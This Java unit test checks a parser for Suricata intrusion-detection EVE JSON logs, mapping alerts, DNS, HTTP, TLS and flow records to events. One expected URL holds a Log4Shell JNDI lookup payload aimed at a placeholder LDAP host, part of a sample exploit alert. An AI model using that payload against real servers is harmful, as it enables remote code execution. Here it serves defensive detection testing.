package org.vigil.core.feed.suricata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.vigil.core.feed.GoldenSamples.assertGolden;
import static org.vigil.core.feed.GoldenSamples.domain;
import static org.vigil.core.feed.GoldenSamples.ip;

import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.vigil.core.feed.Entity;
import org.vigil.core.feed.EntityType;
import org.vigil.core.feed.Event;
import org.vigil.core.feed.EventCategory;
import org.vigil.core.feed.EventSeverity;
import org.vigil.core.feed.FeedParser;
import org.vigil.core.feed.FeedParserContract;
import org.vigil.core.feed.GoldenSamples;

/**
 * Golden tests on {@code feeds/suricata/eve.json}. The samples follow the Suricata user guide,
 * "EVE JSON Format" (docs.suricata.io, 7.0 and 8.0: common section, alert, anomaly, http, dns,
 * tls, flow, fileinfo, smtp and stats records) and "DNS Logging Changes for 8.0" (version 3
 * request/response records), with ET Open rule metadata ({@code mitre_technique_id}…) as Suricata
 * copies it into {@code alert.metadata}. Addresses are from the documentation ranges.
 */
class SuricataEveParserTest extends FeedParserContract {

    private static final List<String> SAMPLES = GoldenSamples.lines("/feeds/suricata/eve.json");

    private final SuricataEveParser parser = new SuricataEveParser();

    @Override
    protected FeedParser parser() {
        return parser;
    }

    @Override
    protected String validRecord() {
        return SAMPLES.get(0);
    }

    @Override
    protected String wrongTypesRecord() {
        return "{\"timestamp\":1710666902,\"event_type\":\"alert\",\"src_ip\":3325256983,"
                + "\"alert\":\"ET EXPLOIT Apache log4j RCE Attempt\"}";
    }

    private Event sample(int line) {
        return onlyEvent(SAMPLES.get(line - 1));
    }

    @Test
    void severityOneAlertWithHttpAndMitreMetadata() {
        assertGolden(
                sample(1),
                "2024-03-17T09:15:02.123456Z",
                EventCategory.INTRUSION,
                EventSeverity.HIGH,
                "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
                List.of("T1190"),
                ip("198.51.100.23"),
                ip("10.20.0.15"),
                domain("shop.example.com"),
                new Entity(EntityType.URL, "http://shop.example.com/login?user=${jndi:ldap://198.51.100.23:1389/a}"));
    }

    @Test
    void severityTwoAlertWithDnsQueryAndSubTechnique() {
        assertGolden(
                sample(2),
                "2024-03-17T09:16:40.884120Z",
                EventCategory.INTRUSION,
                EventSeverity.MEDIUM,
                "ET DNS Query for .to TLD",
                List.of("T1071", "T1071.004"),
                ip("10.20.1.44"),
                ip("10.20.0.2"),
                domain("update-cdn.to"));
    }

    @Test
    void severityThreeBlockedAlertWithoutTechniques() {
        assertGolden(
                sample(3),
                "2024-03-17T09:21:09.000317Z",
                EventCategory.INTRUSION,
                EventSeverity.LOW,
                "ET SCAN Suspicious inbound to mySQL port 3306 (blocked)",
                List.of(),
                ip("203.0.113.77"),
                ip("10.20.0.31"));
    }

    @Test
    void decoderAnomaly() {
        assertGolden(
                sample(4),
                "2024-03-17T09:22:31.418006Z",
                EventCategory.NETWORK,
                EventSeverity.LOW,
                "Anomaly decoder.ipv4.trunc_pkt (decode) from 10.20.1.44 to 10.20.0.15",
                List.of(),
                ip("10.20.1.44"),
                ip("10.20.0.15"));
    }

    @Test
    void applicationLayerAnomaly() {
        assertGolden(
                sample(5),
                "2024-03-17T09:22:58.771230Z",
                EventCategory.NETWORK,
                EventSeverity.LOW,
                "Anomaly UNABLE_TO_MATCH_RESPONSE_TO_REQUEST (applayer) from 10.20.1.52 to 10.20.0.15",
                List.of(),
                ip("10.20.1.52"),
                ip("10.20.0.15"));
    }

    @Test
    void httpTransaction() {
        assertGolden(
                sample(6),
                "2024-03-17T09:24:05.602948Z",
                EventCategory.WEB,
                EventSeverity.INFO,
                "HTTP GET http://downloads.example.net/tools/setup.exe from 10.20.1.52 (200)",
                List.of(),
                ip("10.20.1.52"),
                ip("203.0.113.140"),
                domain("downloads.example.net"),
                new Entity(EntityType.URL, "http://downloads.example.net/tools/setup.exe"));
    }

    @Test
    void fileinfoWithHashes() {
        assertGolden(
                sample(7),
                "2024-03-17T09:24:07.118420Z",
                EventCategory.FILE,
                EventSeverity.INFO,
                "File /tools/setup.exe (PE32 executable (GUI) Intel 80386, for MS Windows)"
                        + " from 203.0.113.140 to 10.20.1.52",
                List.of(),
                ip("203.0.113.140"),
                ip("10.20.1.52"),
                domain("downloads.example.net"),
                new Entity(EntityType.URL, "http://downloads.example.net/tools/setup.exe"),
                new Entity(EntityType.FILE_HASH, "4f1c0e8d2b7a6c5e9d3f1a0b8c7e6d5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d"),
                new Entity(EntityType.FILE_HASH, "7e2f9c1a3b4d5e6f708192a3b4c5d6e7f8091a2b"),
                new Entity(EntityType.FILE_HASH, "2a7d3b1f0c9e48d6b5a4f3e2d1c0b9a8"));
    }

    @Test
    void dnsQueryInVersionTwoFormat() {
        assertGolden(
                sample(8),
                "2024-03-17T09:25:11.306611Z",
                EventCategory.DNS,
                EventSeverity.INFO,
                "DNS query for www.suricata.io (A) from 10.20.1.44",
                List.of(),
                ip("10.20.1.44"),
                ip("10.20.0.2"),
                domain("www.suricata.io"));
    }

    @Test
    void dnsResponseInVersionThreeFormatNamesAnswers() {
        assertGolden(
                sample(9),
                "2024-03-17T09:25:11.334905Z",
                EventCategory.DNS,
                EventSeverity.INFO,
                "DNS answer for www.suricata.io (A): NOERROR",
                List.of(),
                ip("10.20.0.2"),
                ip("10.20.1.44"),
                domain("www.suricata.io"),
                domain("suricata.io"),
                ip("35.212.0.44"));
    }

    @Test
    void tlsHandshakeWithSni() {
        assertGolden(
                sample(10),
                "2024-03-17T09:26:44.020153Z",
                EventCategory.TLS,
                EventSeverity.INFO,
                "TLS session to www.example.org from 10.20.1.44 (TLS 1.3)",
                List.of(),
                ip("10.20.1.44"),
                ip("93.184.215.14"),
                domain("www.example.org"));
    }

    @Test
    void flowRecord() {
        assertGolden(
                sample(11),
                "2024-03-17T09:29:02.337021Z",
                EventCategory.NETWORK,
                EventSeverity.INFO,
                "Flow TCP 10.20.1.44:49822 -> 93.184.215.14:443 (tls, closed)",
                List.of(),
                ip("10.20.1.44"),
                ip("93.184.215.14"));
    }

    @Test
    void otherEventTypesAreGenericButKeepTheirEntities() {
        assertGolden(
                sample(12),
                "2024-03-17T09:31:15.901277Z",
                EventCategory.NETWORK,
                EventSeverity.INFO,
                "Suricata smtp event from 10.20.0.25 to 198.51.100.60",
                List.of(),
                ip("10.20.0.25"),
                ip("198.51.100.60"),
                new Entity(EntityType.EMAIL, "orders@example.com"),
                new Entity(EntityType.EMAIL, "alice@example.org"));
    }

    @Test
    void statsRecordIsGenericWithoutEntities() {
        assertGolden(
                sample(13),
                "2024-03-17T09:32:00.000148Z",
                EventCategory.NETWORK,
                EventSeverity.INFO,
                "Suricata stats event",
                List.of());
    }

    @Test
    void everySampleParsesWithItsOwnStableId() {
        List<String> ids = SAMPLES.stream()
                .map(line -> events(line).get(0))
                .peek(e -> assertThat(e.source()).isEqualTo("test-source"))
                .map(Event::id)
                .toList();
        assertThat(ids).hasSize(13).doesNotHaveDuplicates();
        assertThat(events(SAMPLES.get(8)).get(0).id()).isEqualTo(ids.get(8));
    }

    @Test
    void priorityFourAndAboveIsInfoAndAMissingPriorityIsLow() {
        String four = "{\"timestamp\":\"2024-03-17T10:00:00.000000+0100\",\"event_type\":\"alert\","
                + "\"src_ip\":\"10.0.0.1\",\"dest_ip\":\"10.0.0.2\",\"alert\":{\"signature_id\":2100366,"
                + "\"signature\":\"GPL ICMP_INFO PING *NIX\",\"severity\":4}}";
        String none =
                "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"alert\",\"alert\":{\"signature_id\":9}}";

        assertThat(events(four).get(0).severity()).isEqualTo(EventSeverity.INFO);
        Event unnamed = events(none).get(0);
        assertThat(unnamed.severity()).isEqualTo(EventSeverity.LOW);
        assertThat(unnamed.summary()).isEqualTo("Suricata alert sid 9");
    }

    @Test
    void techniqueIdsAreValidatedAndDeduplicated() {
        String text = "{\"timestamp\":\"2024-03-17T10:00:00+01:00\",\"event_type\":\"alert\",\"alert\":{"
                + "\"signature\":\"LOCAL test\",\"severity\":1,\"metadata\":{\"mitre_technique_id\":"
                + "[\"t1059.001\",\"T1059.001\",\"Command_Shell\",\"T99\"],\"mitre_technique_name\":[\"PowerShell\"]}}}";

        assertThat(events(text).get(0).techniques()).containsExactly("T1059.001");
    }

    @Test
    void dnsVersionTwoAnswerWithGroupedData() {
        String text = "{\"timestamp\":\"2024-03-17T10:00:00.5+0100\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.2\","
                + "\"dest_ip\":\"10.0.0.9\",\"dns\":{\"version\":2,\"type\":\"answer\",\"id\":1,\"rrname\":\"a.example\","
                + "\"rrtype\":\"A\",\"rcode\":\"NXDOMAIN\",\"grouped\":{\"A\":[\"192.0.2.7\"],\"CNAME\":[\"b.example\"]}}}";

        Event event = events(text).get(0);
        assertThat(event.eventTime()).isEqualTo(Instant.parse("2024-03-17T09:00:00.5Z"));
        assertThat(event.summary()).isEqualTo("DNS answer for a.example (A): NXDOMAIN");
        assertThat(event.entities())
                .containsExactly(
                        ip("10.0.0.2"), ip("10.0.0.9"), domain("a.example"), ip("192.0.2.7"), domain("b.example"));
    }

    @Test
    void proxyUrlsStayAbsolutePortsAreKeptAndSingleLabelNamesAreHosts() {
        String proxy = "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"http\",\"http\":"
                + "{\"hostname\":\"intranet\",\"url\":\"http://intranet/wiki\",\"http_method\":\"GET\"}}";
        String port = "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"http\",\"src_ip\":\"10.0.0.1\","
                + "\"http\":{\"hostname\":\"203.0.113.9\",\"http_port\":8080,\"url\":\"/admin\"}}";

        assertThat(events(proxy).get(0).entities())
                .containsExactly(
                        new Entity(EntityType.HOST, "intranet"), new Entity(EntityType.URL, "http://intranet/wiki"));
        Event direct = events(port).get(0);
        assertThat(direct.summary()).isEqualTo("HTTP request http://203.0.113.9:8080/admin from 10.0.0.1");
        assertThat(direct.entities())
                .containsExactly(
                        ip("10.0.0.1"), ip("203.0.113.9"), new Entity(EntityType.URL, "http://203.0.113.9:8080/admin"));
    }

    @Test
    void ipv6HostnamesAreAddresses() {
        String text = "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"http\",\"http\":"
                + "{\"hostname\":\"[2001:db8::1]\",\"url\":\"/status\"}}";

        assertThat(events(text).get(0).entities())
                .containsExactly(ip("2001:db8::1"), new Entity(EntityType.URL, "http://[2001:db8::1]/status"));
    }

    @Test
    void ipv6FlowEndpointsAreBracketed() {
        String text = "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"flow\",\"src_ip\":\"2001:db8::1\","
                + "\"src_port\":5353,\"dest_ip\":\"ff02::fb\",\"dest_port\":5353,\"proto\":\"UDP\","
                + "\"flow\":{\"state\":\"new\"}}";

        Event event = events(text).get(0);
        assertThat(event.summary()).isEqualTo("Flow UDP [2001:db8::1]:5353 -> [ff02::fb]:5353 (new)");
        assertThat(event.entities()).containsExactly(ip("2001:db8::1"), ip("ff02::fb"));
    }

    @Test
    void rejectionsNameTheField() {
        assertThat(rejection(wrongTypesRecord())).isEqualTo("field timestamp: not a string");
        assertThat(rejection("{\"event_type\":\"dns\",\"dns\":{}}")).isEqualTo("field timestamp: missing");
        assertThat(rejection("{\"timestamp\":\"2024-03-17T10:00:00Z\"}")).isEqualTo("field event_type: missing");
        assertThat(rejection("{\"timestamp\":\"17/03/2024 10:00\",\"event_type\":\"dns\"}"))
                .isEqualTo("field timestamp: not a date");
        assertThat(rejection("{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":[\"alert\"]}"))
                .isEqualTo("field event_type: not a string");
        assertThat(rejection("{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"flow\",\"src_ip\":167772161}"))
                .isEqualTo("field src_ip: not a string");
        assertThat(rejection(
                        "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"flow\",\"dest_ip\":\"gateway\"}"))
                .isEqualTo("field dest_ip: not an IP address");
        assertThat(rejection("{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"alert\"}"))
                .isEqualTo("field alert: missing");
        assertThat(
                        rejection(
                                "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"alert\",\"alert\":{\"severity\":\"1\"}}"))
                .isEqualTo("field alert.severity: not a whole number");
        assertThat(rejection(
                        "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"alert\",\"alert\":{\"severity\":0}}"))
                .isEqualTo("field alert.severity: below 1");
        assertThat(rejection("{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"http\",\"http\":[]}"))
                .isEqualTo("field http: not an object");
        assertThat(rejection(
                        "{\"timestamp\":\"2024-03-17T10:00:00Z\",\"event_type\":\"tls\",\"tls\":{\"sni\":{\"x\":1}}}"))
                .isEqualTo("field tls.sni: not a string");
        assertThat(rejection("not json at all")).startsWith("invalid JSON");
        assertThat(rejection("[{\"event_type\":\"alert\"}]")).isEqualTo("not a JSON object");
    }
}
